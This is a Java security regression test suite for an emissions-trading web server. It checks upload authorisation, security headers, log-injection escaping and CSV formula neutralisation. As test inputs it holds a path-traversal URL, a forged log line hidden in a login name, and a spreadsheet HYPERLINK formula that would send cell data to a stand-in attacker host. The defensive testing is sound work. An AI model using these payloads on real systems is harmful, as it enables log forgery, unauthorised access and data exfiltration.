package org.openets.server;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import org.junit.jupiter.api.Test;
import org.openets.web.security.Refusals;
import org.openets.web.sheets.ReportSheets;
import org.slf4j.LoggerFactory;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** What a security review of 2026-11-25 found, each fixed and kept fixed here. */
class SecurityReviewHttpTest extends ServerTestBase {

    /** The upload page asks who may report before it reads the file, and records the refusal whatever the file holds. */
    @Test
    void the_emissions_upload_refuses_someone_else_before_reading_the_file() {
        Session s = session("gd-power-1-init");
        long before = refusals("gd-power-1-init", "NOT_AUTHORISED");
        for (String rows : new String[]{"nosheet,a\n1,2", "", "x"}) {
            String form = "entity=cn-power-1&year=2023&rows=" + URLEncoder.encode(rows, StandardCharsets.UTF_8)
                    + "&_csrf=" + URLEncoder.encode(s.csrf(), StandardCharsets.UTF_8);
            HttpResponse<String> r = send(request("/emissions/upload", null).header("Cookie", s.cookie())
                    .header("Content-Type", "application/x-www-form-urlencoded").POST(HttpRequest.BodyPublishers.ofString(form)).build());
            assertThat(r.statusCode()).isEqualTo(302);
            HttpResponse<String> page = send(request(r.headers().firstValue("Location").orElseThrow().replaceFirst("^https?://[^/]+", ""), null)
                    .header("Cookie", s.cookie()).GET().build());
            assertThat(page.body()).contains("data-code=\"NOT_AUTHORISED\"").doesNotContain("data-code=\"VALIDATION_FAILED\"");
        }
        assertThat(refusals("gd-power-1-init", "NOT_AUTHORISED")).isEqualTo(before + 3);
    }

    /** Answers given before Spring Security's header writer (a control character, an oversized body) carry the headers too. */
    @Test
    void every_answer_carries_the_security_headers() {
        HttpResponse<String> control = get("/login?x=%01", null);
        assertThat(control.statusCode()).isEqualTo(400);
        HttpResponse<String> tooBig = postJson("/api/v1/transactions", "cn-power-1-init", "{\"x\":\"" + "a".repeat(70_000) + "\"}");
        assertThat(tooBig.statusCode()).isEqualTo(413);
        HttpResponse<String> tomcat = get("/accounts/..%2Fadmin", null);
        assertThat(tomcat.statusCode()).isEqualTo(400);
        for (HttpResponse<String> r : List.of(control, tooBig, tomcat, get("/login", null))) {
            assertThat(r.headers().firstValue("X-Content-Type-Options")).as(r.uri() + " " + r.statusCode()).contains("nosniff");
            assertThat(r.headers().firstValue("X-Frame-Options")).as(r.uri().toString()).contains("DENY");
            assertThat(r.headers().firstValue("Content-Security-Policy").orElse("")).as(r.uri().toString()).contains("frame-ancestors 'none'");
            assertThat(r.headers().allValues("Content-Security-Policy")).as("one policy").hasSize(1);
            assertThat(r.headers().firstValue("Referrer-Policy")).contains("same-origin");
        }
    }

    /** A login with a line break does not write a line of its own into the server's log. */
    @Test
    void a_login_with_a_line_break_writes_no_line_of_its_own_into_the_log() {
        Logger logger = (Logger) LoggerFactory.getLogger(Refusals.class);
        ListAppender<ILoggingEvent> appender = new ListAppender<>();
        appender.start();
        logger.addAppender(appender);
        ch.qos.logback.classic.Level level = logger.getLevel();
        logger.setLevel(ch.qos.logback.classic.Level.INFO);
        try {
            String forged = "x\n2026-11-25T03:10:00.000Z INFO admin-cn approved tx 999";
            String basic = Base64.getEncoder().encodeToString((forged + ":pw").getBytes(StandardCharsets.UTF_8));
            assertThat(send(request("/api/v1/me", null).header("Authorization", "Basic " + basic).GET().build()).statusCode()).isEqualTo(401);
        } finally {
            logger.detachAppender(appender);
            logger.setLevel(level);
        }
        assertThat(appender.list).isNotEmpty();
        for (ILoggingEvent e : appender.list) assertThat(e.getFormattedMessage()).doesNotContain("\n").doesNotContain("\r");
        assertThat(appender.list.stream().map(ILoggingEvent::getFormattedMessage)).anyMatch(m -> m.contains("x\\u000a2026-11-25"));
    }

    /** A cell a spreadsheet would read as a formula is written as text in the CSV exports, also when it is quoted. */
    @Test
    void a_formula_in_an_exported_cell_is_written_as_text_quoted_or_not() {
        String csv = ReportSheets.tableCsv(List.of("reason", "plain", "number"),
                List.<List<Object>>of(List.of("=HYPERLINK(\"http://evil.example/?\"&A2,\"see note\")", "@SUM(A1:A9)", -5)));
        String line = csv.lines().skip(1).findFirst().orElseThrow();
        assertThat(line).startsWith("\"'=HYPERLINK(").contains(",'@SUM(A1:A9),").endsWith(",-5");
    }
}
